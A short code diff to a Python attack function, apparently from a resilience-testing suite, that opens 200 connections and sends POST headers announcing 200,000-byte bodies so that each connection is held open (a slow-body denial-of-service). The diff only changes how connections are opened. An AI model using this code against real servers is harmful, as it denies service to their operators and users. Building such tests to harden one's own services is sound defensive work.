@@ -2,14 +2,13 @@
 """Bodies announced as 200 KB, with a false token, that trickle: each holds a connection and little else."""
 import time
 
-from lib.flood import hang_on
 
 
 def attack(target):
     lines = []
     head = b"POST /v1/check HTTP/1.1\r\nhost: t\r\ncontent-type: application/json\r\ncontent-length: 200000\r\n\r\n"
     for _ in range(200):
-        line = hang_on(target.port)
+        line = target.connect()
         line.sendall(head)
         lines.append(line)
     rounds = 0
